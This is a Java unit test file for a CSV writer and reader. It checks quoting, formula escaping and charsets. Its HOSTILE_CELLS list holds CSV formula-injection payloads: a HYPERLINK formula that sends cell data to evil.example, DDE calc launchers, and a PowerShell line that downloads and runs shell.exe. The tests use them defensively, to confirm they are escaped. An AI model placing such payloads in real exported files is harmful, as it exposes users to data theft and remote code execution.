package dev.dovetail.connectors.file;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

/** CSV text as written and read: RFC 4180 quoting, formula escaping, charsets. */
class CsvFilesTest {

    private static final Charset GBK = Charset.forName("GBK");
    private static final TableFormat.Csv UTF8 = TableFormat.Csv.defaults(FileCharset.UTF_8);

    /** RELIABILITY.md S6: payloads a spreadsheet would run, plus quotes, commas and line breaks. */
    static final List<String> HOSTILE_CELLS = List.of(
            "=1+1", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\0=1+1",
            "=cmd|'/C powershell IEX(wget evil.example/shell.exe)'!A0", "'=1+1", "''=1+1", "=\"a,b\"",
            "-=1", "+", "-", "@", "=", "say \"hi\", then\nleave", "a\r\nb", "'-3");

    @Test
    void cells_with_delimiters_quotes_and_line_breaks_come_back_unchanged() throws Exception {
        var cells = List.of("plain", "a,b", "say \"hi\"", "two\nlines", "cr\ronly", "crlf\r\nend", "", " padded ", "上海市浦东新区, 3 楼");
        var text = CsvText.write(columns(cells.size()), List.of(cells), UTF8);

        assertThat(text).contains("\"a,b\"").contains("\"say \"\"hi\"\"\"").contains("\"two\nlines\"");
        var table = CsvText.read(text, UTF8, List.of());
        assertThat(table.rows()).containsExactly(cells);
    }

    @Test
    void every_formula_payload_is_written_as_text_and_read_back_as_the_original_string() throws Exception {
        var text = CsvText.write(List.of("value"), HOSTILE_CELLS.stream().map(List::of).toList(), UTF8);

        for (var record : CsvText.parse(text, ',').subList(1, HOSTILE_CELLS.size() + 1)) {
            var cell = record.cells().getFirst();
            assertThat(cell).as("no cell may start with a formula trigger").doesNotMatch("(?s)^[=+\\-@\t\r\0].*");
        }
        assertThat(CsvText.read(text, UTF8, List.of()).rows()).extracting(List::getFirst).containsExactlyElementsOf(HOSTILE_CELLS);
    }

    @Test
    void plain_numbers_keep_their_sign_when_formulas_are_escaped() throws Exception {
        var cells = List.of("-3", "+8613800000000", "-1.5e3", "0");
        var text = CsvText.write(columns(4), List.of(cells), UTF8);

        assertThat(text).endsWith("-3,+8613800000000,-1.5e3,0\r\n");
    }

    @Test
    void with_formula_escaping_off_cells_are_written_exactly() throws Exception {
        var raw = new TableFormat.Csv(FileCharset.UTF_8, ',', true, false, "\n");
        var text = CsvText.write(List.of("v"), List.of(List.of("=1+1")), raw);

        assertThat(text).isEqualTo("v\n=1+1\n");
    }

    @Test
    void a_gbk_file_round_trips_chinese_text() throws Exception {
        var gbk = FileCharset.of("GBK");
        var bytes = gbk.encode(CsvText.write(List.of("客户", "地址"), List.of(List.of("杭州西湖茶业有限公司", "浙江省杭州市西湖区龙井路 8 号")),
                TableFormat.Csv.defaults(gbk)));

        assertThat(new String(bytes, GBK)).startsWith("客户,地址\r\n");
        assertThat(Arrays.copyOf(bytes, 3)).isNotEqualTo(FileCharset.UTF8_BOM);
        var table = CsvText.read(gbk.decode(bytes), TableFormat.Csv.defaults(gbk), List.of());
        assertThat(table.columns()).containsExactly("客户", "地址");
        assertThat(table.rows()).containsExactly(List.of("杭州西湖茶业有限公司", "浙江省杭州市西湖区龙井路 8 号"));
    }

    @Test
    void utf8_bom_is_written_first_and_dropped_when_read_whatever_the_configured_charset() throws Exception {
        var bytes = FileCharset.UTF_8_BOM.encode("orderNo,客户\r\nXS1,上海\r\n");

        assertThat(Arrays.copyOf(bytes, 3)).isEqualTo(FileCharset.UTF8_BOM);
        var asGbk = CsvText.read(FileCharset.of("GBK").decode(bytes), TableFormat.Csv.defaults(FileCharset.of("GBK")), List.of());
        assertThat(asGbk.columns()).containsExactly("orderNo", "客户");
        assertThat(asGbk.rows()).containsExactly(List.of("XS1", "上海"));
    }

    @Test
    void bytes_that_are_not_valid_in_the_charset_are_reported_with_their_line() {
        var bytes = "orderNo,name\r\nXS1,ok\r\nXS2,杭州\r\n".getBytes(GBK);

        assertThatThrownBy(() -> FileCharset.UTF_8.decode(bytes))
                .isInstanceOf(FileCharset.UndecodableText.class)
                .hasMessageStartingWith("line 3: bytes that are not valid UTF-8");
    }

    @Test
    void rows_report_the_line_they_start_on_even_after_a_quoted_line_break() {
        var text = "a,b\r\n\"x\ny\",1\r\nonly-one\r\n";

        assertThatThrownBy(() -> CsvText.read(text, UTF8, List.of()))
                .isInstanceOfSatisfying(MalformedFile.class, e -> assertThat(e.problems())
                        .containsExactly("line 4: 1 cells, but there are 2 columns"));
    }

    @Test
    void a_header_with_a_repeated_or_empty_name_is_refused() {
        assertThatThrownBy(() -> CsvText.read("a,a,\r\n1,2,3\r\n", UTF8, List.of()))
                .isInstanceOfSatisfying(MalformedFile.class, e -> assertThat(e.problems()).containsExactly(
                        "line 1: column 'a' appears twice in the header row", "line 1: column 3 of the header row has no name"));
    }

    @Test
    void an_unclosed_quote_and_text_after_a_closing_quote_are_refused() {
        assertThatThrownBy(() -> CsvText.parse("a\r\n\"never closed\r\n", ','))
                .hasMessage("line 2: a quoted field is never closed");
        assertThatThrownBy(() -> CsvText.parse("\"a\"b,c\r\n", ','))
                .hasMessage("line 1: 'b' after the closing quote of a field");
    }

    @Test
    void blank_rows_are_skipped_and_a_missing_final_line_break_is_fine() throws Exception {
        var table = CsvText.read("a,b\n\n1,2\n,\n3,4", UTF8, List.of());

        assertThat(table.rows()).containsExactly(List.of("1", "2"), List.of("3", "4"));
        assertThat(table.lines()).containsExactly(3, 5);
    }

    @Test
    void a_file_without_header_row_takes_the_configured_columns() throws Exception {
        var noHeader = new TableFormat.Csv(FileCharset.UTF_8, ';', false, true, "\r\n");
        var table = CsvText.read("1;x\r\n2;y\r\n", noHeader, List.of("id", "name"));

        assertThat(table.columns()).containsExactly("id", "name");
        assertThat(table.rows()).containsExactly(List.of("1", "x"), List.of("2", "y"));
        assertThat(table.lines()).containsExactly(1, 2);
    }

    @Test
    void charsets_are_named_as_workspaces_write_them() {
        assertThat(FileCharset.of("utf-8-bom")).isEqualTo(FileCharset.UTF_8_BOM);
        assertThat(FileCharset.of("UTF-8")).isEqualTo(FileCharset.UTF_8);
        assertThat(FileCharset.of("gbk").label()).isEqualTo("GBK");
        assertThat(FileCharset.UTF_8_BOM.label()).isEqualTo("UTF-8-BOM");
        assertThatThrownBy(() -> FileCharset.of("klingon")).hasMessageContaining("not a charset");
        assertThat(StandardCharsets.UTF_8).isEqualTo(FileCharset.UTF_8_BOM.charset());
    }

    private static List<String> columns(int n) {
        return java.util.stream.IntStream.rangeClosed(1, n).mapToObj(i -> "c" + i).toList();
    }
}
